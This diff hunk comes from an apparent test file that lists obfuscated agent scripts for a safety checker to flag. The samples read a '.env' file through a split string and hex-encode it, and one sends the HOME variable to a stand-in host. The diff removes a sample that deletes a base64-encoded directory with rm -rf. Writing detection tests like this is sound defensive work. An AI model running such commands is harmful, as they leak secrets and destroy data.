@@ -33,7 +33,6 @@ const OPAQUE: [string, string, string][] = [
   ['scripts/p.pl', "my $f = '.e' . 'nv';\nopen(my $h, '<', $f) or die;\nprint unpack('H*', <$h>);\n", 'perl scripts/p.pl'],
   ['scripts/p.php', "<?php\n$f = '.e' . 'nv';\necho bin2hex(file_get_contents($f));\n", 'php scripts/p.php'],
   ['scripts/net.js', "const u = 'https://example.invalid/' + process.env.HOME;\nfetch(u);\n", 'node scripts/net.js'],
-  ['scripts/w.sh', '#!/bin/sh\nd=$(echo dGVzdHM= | base64 -d)\nrm -rf "$d"\n', 'bash scripts/w.sh'],
 ];
 
 /** Agent scripts whose calls name only literal, harmless paths (or none): allowed. */
